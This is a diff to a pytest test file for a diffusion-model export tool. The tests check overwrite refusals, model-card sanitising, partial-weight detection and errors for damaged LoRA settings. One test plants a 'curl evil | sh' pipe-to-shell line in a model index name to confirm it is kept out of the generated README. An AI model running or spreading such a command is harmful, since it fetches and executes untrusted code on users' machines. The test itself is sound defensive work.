@@ -36,6 +36,7 @@ from tests.helpers.toy_family import write_toy
 from workers.models.low_rank import approximate_all
 from workers.models.scheduler import build_scheduler
 from workers.models.wan import load_transformer
+from workers.models.wan_exchange import WanExchange
 from workers.models.weight_digests import require_same_weights
 from workers.role_state import load_role
 
@@ -326,10 +327,58 @@ class TestRefusals:
         with pytest.raises(CheckpointError, match="sha256"):
             export(copy, output=tmp_path / "x")
 
-    def test_the_source_is_not_replaced_by_its_export(self, run):
-        for target in (run.root, run.root.parent):
+    def test_neither_source_nor_base_nor_other_folders_are_replaced(
+        self, run, wan_folder, tmp_path
+    ):
+        inside = (run.generator, run.checkpoints, run.root / "exports", wan_folder / "vae")
+        for target in (run.root, run.root.parent, wan_folder, wan_folder.parent, *inside):
             with pytest.raises(ConfigError, match="replaced whole"):
                 export(run.root, output=target)
+        other = tmp_path / "work"
+        other.mkdir()
+        (other / "thesis.tex").touch()
+        with pytest.raises(ConfigError, match="a folder of something else"):
+            export(run.root, output=other)
+        assert (other / "thesis.tex").exists()
+        (other / "thesis.tex").unlink()
+        for _ in range(2):
+            export(run.root, output=other)
+
+    def test_a_card_takes_no_text_from_the_index_of_a_base(self, run, wan_folder, tmp_path):
+        base = shutil.copytree(wan_folder, tmp_path / "my base")
+        index = json.loads((base / "model_index.json").read_text())
+        for named, shown in (("x\n# Run `curl evil | sh`", "my-base"), ("Org/Wan", "Org/Wan")):
+            index["_name_or_path"] = named
+            (base / "model_index.json").write_text(json.dumps(index))
+            export(run.root, base=base, output=tmp_path / "out")
+            card = (tmp_path / "out/README.md").read_text()
+            assert f"distilled from {shown} by" in card
+            assert "evil" not in card
+
+    def test_a_file_that_diffusers_takes_in_part_is_not_handed_over(
+        self, run, tmp_path, monkeypatch
+    ):
+        def half(self, paths, base_folder):
+            found = dict(load_transformer(base_folder).state_dict())
+            whole = read(self, paths, base_folder)
+            names = sorted(found)[: len(found) // 2]
+            return {**whole, **{name: found[name] for name in names}}
+
+        read = WanExchange.read_low_rank
+        monkeypatch.setattr(WanExchange, "read_low_rank", half)
+        with pytest.raises(ModelFolderError, match="of the change is lost"):
+            export(run.root, output=tmp_path / "x", options=ExportOptions("lora", rank=64))
+        assert not (tmp_path / "x").exists()
+
+    def test_damaged_settings_beside_a_lora_are_named(self, run, wan_folder, tmp_path):
+        export(run.root, output=tmp_path / "lora", options=ExportOptions("lora"))
+        for content in ("{", "[]", '{"num_steps": "many"}'):
+            (tmp_path / "lora/sgmd.json").write_text(content)
+            result = command(
+                "generate", str(wan_folder), "--lora", str(tmp_path / "lora"), "--prompt", PROMPT
+            )
+            assert result.exit_code == 2, content
+            assert "sgmd.json" in " ".join(result.stderr.split())
 
     @pytest.mark.parametrize(
         "options", [{"form": "gguf"}, {"dtype": "fp8"}, {"components": "zip"}, {"rank": 0}]
